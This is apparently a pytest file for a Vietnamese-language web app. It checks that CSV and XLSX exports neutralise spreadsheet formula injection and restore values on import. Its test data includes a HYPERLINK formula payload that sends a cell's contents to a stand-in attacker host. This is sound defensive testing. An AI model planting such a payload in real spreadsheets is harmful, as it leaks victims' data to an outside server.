"""Formula injection: every CSV and XLSX export goes through one writer that neutralises it."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from component_sites.core import spreadsheet
from tests.procedure_helpers import eager  # noqa: F401

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


def xlsx_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_csv_cells_never_start_a_formula(prefix):
    value = prefix + PAYLOAD
    text = spreadsheet.csv_text([["Tên", "Số"], [value, 3], ["Nguyễn Văn A", -5]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[1][0] == "'" + value
    assert rows[2] == ["Nguyễn Văn A", "-5"]  # numbers stay numbers, plain text stays as is
    assert spreadsheet.restore(rows[1][0]) == value


@pytest.mark.parametrize("prefix", PREFIXES)
def test_xlsx_cells_are_strings_never_formulas(prefix):
    value = prefix + PAYLOAD
    data = spreadsheet.xlsx_bytes([("Thử", [["Tên", "Số"], [value, 3]])])
    cells = xlsx_cells(data)
    assert not [cell for cell in cells if cell.data_type == "f"]
    name = next(cell for cell in cells if isinstance(cell.value, str) and PAYLOAD in cell.value)
    # (XML reads a carriage return back as a line feed.)
    assert name.value in ("'" + value, "'" + value.replace("\r", "\n"))
    assert name.data_type == "s"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_append_row_on_an_ordinary_sheet(prefix):
    from openpyxl import Workbook

    book = Workbook()
    spreadsheet.append_row(book.active, [prefix + "SUM(1,2)", 7])
    spreadsheet.set_cell(book.active, "C1", prefix + "SUM(1,2)")
    cells = xlsx_cells(spreadsheet.save_workbook(book))
    assert [c.data_type for c in cells if isinstance(c.value, str)] == ["s", "s"]
    assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize(
    "value", ["'=already quoted", "''@twice", "'plain", "=x", "plain", "", "-", "'"]
)
def test_restore_gives_back_exactly_what_was_exported(value):
    assert spreadsheet.restore(spreadsheet.neutralise(value)) == value


def test_non_text_values_are_left_alone():
    assert spreadsheet.neutralise(-3) == -3
    assert spreadsheet.neutralise(None) is None


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_procedure_export_neutralises_and_still_round_trips(sites, eager, fmt):  # noqa: F811
    from tenants.procedures.transfer import export_bytes, import_file
    from tests.procedure_helpers import make_procedure

    make_procedure(
        "9.930101",
        name='=HYPERLINK("http://x","Thủ tục")',
        steps="-Bước 1: nộp hồ sơ.\n+Bước 2: nhận kết quả.",
    )
    data = export_bytes(fmt)
    if fmt == "xlsx":
        cells = xlsx_cells(data)
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert '\'=HYPERLINK("http://x","Thủ tục")' in [cell.value for cell in cells]
    else:
        assert "'=HYPERLINK" in data.decode("utf-8")
    report = import_file(f"x.{fmt}", data)
    assert report.errors == []
    assert report.unchanged == ["9.930101"]
